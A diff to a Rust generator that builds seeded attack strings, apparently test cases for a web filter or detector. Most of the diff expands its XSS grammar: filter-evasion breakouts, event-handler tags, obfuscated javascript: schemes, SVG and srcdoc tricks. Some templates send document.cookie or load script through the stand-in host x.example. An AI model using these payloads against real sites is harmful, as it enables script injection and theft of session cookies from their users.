@@ -52,7 +52,6 @@ type Generator = fn(&mut Rng) -> String;
 
 /// `per_family` attacks of each family, from `seed`.
 pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
-    let mut rng = Rng::new(seed);
     let families: [(&'static str, Generator); 7] = [
         ("sqli", sqli),
         ("xss", xss),
@@ -63,7 +62,10 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
         ("rce", rce),
     ];
     let mut out = Vec::new();
-    for (family, generate) in families {
+    for (index, (family, generate)) in (0u64..).zip(families) {
+        // One stream per family: a change to one generator leaves the
+        // other families' cases as they were.
+        let mut rng = Rng::new(seed ^ (index + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15));
         for _ in 0..per_family {
             let payload = generate(&mut rng);
             let request = if family == "nosql" {
@@ -273,113 +275,312 @@ fn restyle(rng: &mut Rng, text: &str) -> String {
     out
 }
 
-/// HTML/JS: a breakout, a tag with an event handler (or a scriptable URL),
-/// a payload, separators, quoting, case and entity encodings.
-#[allow(clippy::too_many_lines)] // One grammar, read top to bottom.
+/// HTML/JS: a breakout from the context the value lands in, then one
+/// construct that runs script (a script element, a tag with an event
+/// handler, a script URL in a URL attribute, attributes after a quote, SVG
+/// animation, `srcdoc`, a style), each built from its parts: tags ×
+/// events × separators × quoting × case × character-reference encodings.
 fn xss(rng: &mut Rng) -> String {
     let breakout = rng.pick(&[
         "",
         "",
         "\">",
         "'>",
+        ">",
         "</textarea>",
         "</title>",
+        "</style>",
+        "</noscript>",
         "--></script>",
+        "</script>",
         "\"/>",
+        "]]>",
+        "-->",
     ]);
-    let call = rng.pick(&[
-        "alert(1)",
-        "prompt`1`",
-        "confirm(document.domain)",
-        "eval(atob('YWxlcnQoMSk='))",
-        "fetch('//x.example/'+document.cookie)",
-        "top['al'+'ert'](1)",
-        "window.onerror=alert;throw 1",
-        "import('//x.example/m.js')",
-        "location='//x.example'",
-        "[1].find(alert)",
+    let call = js_call(rng);
+    let element = match rng.below(8) {
+        0 => script_element(rng, &call),
+        1..=3 => handler_element(rng, &call),
+        4 => url_element(rng, &call),
+        5 => attribute_breakout(rng, &call),
+        6 => svg_element(rng, &call),
+        _ => embedded_document(rng, &call),
+    };
+    format!("{breakout}{element}")
+}
+
+/// A script call: a dialog, a sink, a fetch, in one of the styles used to
+/// avoid plain `alert(`.
+fn js_call(rng: &mut Rng) -> String {
+    let sink = rng.pick(&["alert", "prompt", "confirm", "print", "eval", "fetch"]);
+    let arg = rng.pick(&[
+        "1",
+        "document.domain",
+        "document.cookie",
+        "'x'",
+        "/x/.source",
     ]);
-    let sep = rng.pick(&[" ", "/", "\t", "\n", "\u{c}", "  "]);
+    match rng.below(8) {
+        0 => format!("{sink}({arg})"),
+        1 => format!("{sink}`{arg}`"),
+        2 => format!("top['{}'+'{}']({arg})", &sink[..2], &sink[2..]),
+        3 => format!("[{arg}].find({sink})"),
+        4 => format!("window.onerror={sink};throw {arg}"),
+        5 => format!("import('//x.example/{sink}.js')"),
+        6 => format!("location='//x.example/?'+{arg}"),
+        _ => format!("setTimeout('{sink}({arg})')"),
+    }
+}
+
+/// A blank between a tag's name and attributes, or between attributes:
+/// what the HTML tokenizer accepts there.
+fn tag_blank(rng: &mut Rng) -> &'static str {
+    rng.pick(&[" ", " ", "/", "\t", "\n", "\r", "\u{c}", "  ", " /"])
+}
+
+/// An attribute value in one quoting style (an unquoted value with a
+/// blank in it is quoted instead, as it would end at the blank).
+fn quoted(rng: &mut Rng, value: &str) -> String {
     let q = rng.pick(&["\"", "'", "", "`"]);
-    let call = if rng.chance(20) {
+    let q = if q.is_empty() && value.contains([' ', '\t', '\n', '>']) {
+        "\""
+    } else {
+        q
+    };
+    let q = if value.contains(q) && !q.is_empty() {
+        ""
+    } else {
+        q
+    };
+    format!("{q}{value}{q}")
+}
+
+/// A script call as an attribute value: plain or with letters as
+/// character references.
+fn handler_value(rng: &mut Rng, call: &str) -> String {
+    if rng.chance(25) {
         entities(rng, call)
     } else {
         call.to_owned()
+    }
+}
+
+/// `<script>call</script>` in one of its forms.
+fn script_element(rng: &mut Rng, call: &str) -> String {
+    let open = case(rng, "script");
+    let close = case(rng, "script");
+    match rng.below(4) {
+        0 => format!("<{open}>{call}</{close}>"),
+        1 => format!("<{open}{}x>{call}</{close}>", tag_blank(rng)),
+        2 => format!("<{open} src={}></{close}>", quoted(rng, "//x.example/x.js")),
+        _ => format!("<x:{open}>{call}</x:{close}>"),
+    }
+}
+
+/// A tag, the attributes it needs, an event handler of one of the DOM's
+/// event families, and the end of the tag (or none: the page closes it).
+fn handler_element(rng: &mut Rng, call: &str) -> String {
+    let tag = rng.pick(&[
+        "img src=x",
+        "image src=1",
+        "svg",
+        "body",
+        "iframe",
+        "video src=1",
+        "audio src=1",
+        "video><source src=x",
+        "details open",
+        "input autofocus",
+        "select autofocus",
+        "textarea autofocus",
+        "marquee",
+        "object",
+        "embed src=1",
+        "math",
+        "a href=#",
+        "div",
+        "span tabindex=1",
+        "style",
+        "xss",
+        "custom-tag",
+        "form",
+        "button",
+        "keygen autofocus",
+        "frameset",
+        "table background=1",
+        "picture",
+        "meter",
+        "dialog open",
+    ]);
+    let event = rng.pick(&[
+        "onerror",
+        "onload",
+        "onmouseover",
+        "onmouseenter",
+        "onfocus",
+        "onfocusin",
+        "onblur",
+        "ontoggle",
+        "onbegin",
+        "onend",
+        "onanimationstart",
+        "onanimationend",
+        "ontransitionend",
+        "onpointerenter",
+        "onpointerdown",
+        "onclick",
+        "ondblclick",
+        "onauxclick",
+        "oncontextmenu",
+        "onwheel",
+        "onscroll",
+        "onstart",
+        "onpageshow",
+        "onhashchange",
+        "onmessage",
+        "onkeydown",
+        "oninput",
+        "onchange",
+        "onsearch",
+        "oncopy",
+        "onpaste",
+        "ondrag",
+        "ontouchstart",
+        "onbeforetoggle",
+        "onloadstart",
+        "oncanplay",
+        "onplay",
+        "ontimeupdate",
+    ]);
+    let mut tag = case(rng, tag);
+    // An unquoted value before a `/` would take the `/` and the handler.
+    if tag.contains('=') && rng.chance(50) {
+        tag.push(' ');
+    }
+    let blank = tag_blank(rng);
+    let value = handler_value(rng, call);
+    let value = quoted(rng, &value);
+    let end = rng.pick(&[">", ">", "//", "", " x>", "/>"]);
+    format!("<{tag}{blank}{}={value}{end}", case(rng, event))
+}
+
+/// A script URL scheme, disguised the ways browsers still read it: case,
+/// character references, blanks and controls they drop.
+fn script_scheme(rng: &mut Rng) -> String {
+    let scheme = rng.pick(&["javascript", "javascript", "vbscript"]);
+    let mut out = String::new();
+    if rng.chance(20) {
+        out.push_str(rng.pick(&["&#x20;", "&#1;", " ", "&#0000032;", "&#x0e;"]));
+    }
+    for (i, c) in scheme.chars().enumerate() {
+        if i > 0 && rng.chance(8) {
+            out.push_str(rng.pick(&["&#x09;", "&#10;", "&#x0D;", "&tab;", "&newline;"]));
+        }
+        if rng.chance(15) {
+            let _ = write!(out, "&#{};", c as u32);
+        } else if rng.chance(10) {
+            // Without `;`: a letter after it ends the number.
+            let _ = write!(out, "&#{}", c as u32);
+        } else {
+            out.push(c);
+        }
+    }
+    let colon = rng.pick(&[":", ":", ":", "&colon;", "&#58;", "&#x3a;"]);
+    format!("{}{colon}", case(rng, &out))
+}
+
+/// A URL attribute holding a script URL or a data URL of a document.
+fn url_element(rng: &mut Rng, call: &str) -> String {
+    let tag = rng.pick(&[
+        "a href",
+        "iframe src",
+        "frame src",
+        "form action",
+        "form><button formaction",
+        "input type=image formaction",
+        "object data",
+        "embed src",
+        "math><mi xlink:href",
+        "svg><a xlink:href",
+        "svg><a href",
+        "isindex action",
+        "table background",
+        "img dynsrc",
+        "base href",
+    ]);
+    let url = if rng.chance(20) {
+        let document = rng.pick(&[
+            "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
+            "image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+            "application/xhtml+xml,x",
+        ]);
+        format!("data:{document}")
+    } else {
+        format!("{}{call}", script_scheme(rng))
     };
-    let element = match rng.below(5) {
-        0 => format!("<{}>{call}</{}>", case(rng, "script"), case(rng, "script")),
-        1 | 2 => {
-            let tag = rng.pick(&[
-                "img src=x",
-                "svg",
-                "body",
-                "iframe",
-                "video src=1",
-                "audio src=1",
-                "details open",
-                "input autofocus",
-                "marquee",
-                "object",
-                "math",
-                "a href=#",
-                "div",
-                "select autofocus",
-                "textarea autofocus",
-                "style",
-                "xss",
-                "image src=1",
-            ]);
-            let handler = rng.pick(&[
-                "onerror",
-                "onload",
-                "onmouseover",
-                "onfocus",
-                "ontoggle",
-                "onbegin",
-                "onanimationstart",
-                "onpointerenter",
-                "onclick",
-                "onwheel",
-                "onstart",
-                "onpageshow",
-            ]);
-            format!(
-                "<{}{sep}{}={q}{call}{q}>",
-                case(rng, tag),
-                case(rng, handler)
-            )
-        }
-        3 => {
-            let scheme = rng.pick(&[
-                "javascript:",
-                "JaVaScRiPt:",
-                "java\tscript:",
-                "javascript&colon;",
-                "&#106;avascript:",
-                "vbscript:",
-                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-            ]);
-            let tag = rng.pick(&[
-                "a href",
-                "iframe src",
-                "form action",
-                "object data",
-                "embed src",
-                "button formaction",
-            ]);
-            format!("<{}={q}{scheme}{call}{q}>x", case(rng, tag))
-        }
-        _ => format!(
-            "{q}{sep}{}={q}{call}",
-            rng.pick(&[
-                "onmouseover",
-                "onfocus autofocus x",
-                "onerror",
-                "style=animation-name:x onanimationstart"
-            ])
+    let blank = tag_blank(rng);
+    let tag = case(rng, tag).replacen(' ', blank, 1);
+    format!("<{tag}={}>x", quoted(rng, &url))
+}
+
+/// A quote closing the attribute the value landed in, then attributes:
+/// an event handler (with what makes it fire) or a style.
+fn attribute_breakout(rng: &mut Rng, call: &str) -> String {
+    let q = rng.pick(&["\"", "'", "`", ""]);
+    let blank = tag_blank(rng);
+    let value = handler_value(rng, call);
+    let attributes = match rng.below(5) {
+        0 => format!("autofocus onfocus={q}{value}"),
+        1 => format!("onmouseover={q}{value}"),
+        2 => format!("style=animation-name:x onanimationstart={q}{value}"),
+        3 => format!("onerror={q}{value}"),
+        _ => format!("style={q}x:expression({value})"),
+    };
+    format!("{q}{blank}{}", case(rng, &attributes))
+}
+
+/// SVG animating an attribute into a script: `values`/`to` holding a
+/// script URL for `href`, or `attributeName` naming a handler.
+fn svg_element(rng: &mut Rng, call: &str) -> String {
+    let scheme = script_scheme(rng);
+    match rng.below(3) {
+        0 => format!(
+            "<svg><a><{} attributeName=href values={}/><text y=20>x</text></a>",
+            rng.pick(&["animate", "set", "animate"]),
+            quoted(rng, &format!("{scheme}{call}"))
         ),
-    };
-    format!("{breakout}{element}")
+        1 => format!(
+            "<svg><set attributeName=on{} to={}>",
+            rng.pick(&["load", "mouseover", "click", "begin"]),
+            quoted(rng, call)
+        ),
+        _ => format!(
+            "<svg><a xlink:href={}><rect/></a>",
+            quoted(rng, &format!("{scheme}{call}"))
+        ),
+    }
+}
+
+/// A document inside an attribute or a style: `srcdoc`, a style with an
+/// expression or a script URL, a refresh to a script URL.
+fn embedded_document(rng: &mut Rng, call: &str) -> String {
+    let scheme = script_scheme(rng);
+    match rng.below(4) {
+        0 => format!(
+            "<iframe srcdoc=\"&lt;img src=x onerror={}&gt;\">",
+            call.replace('"', "&quot;")
+        ),
+        1 => format!(
+            "<div style={}>",
+            quoted(rng, &format!("background:url({scheme}{call})"))
+        ),
+        2 => format!("<x style=\"width:expression({})\">", call.replace('"', "'")),
+        _ => format!(
+            "<meta http-equiv=refresh content=\"0;url={scheme}{}\">",
+            call.replace('"', "'")
+        ),
+    }
 }
 
 /// Some of a text's letters as HTML character references.
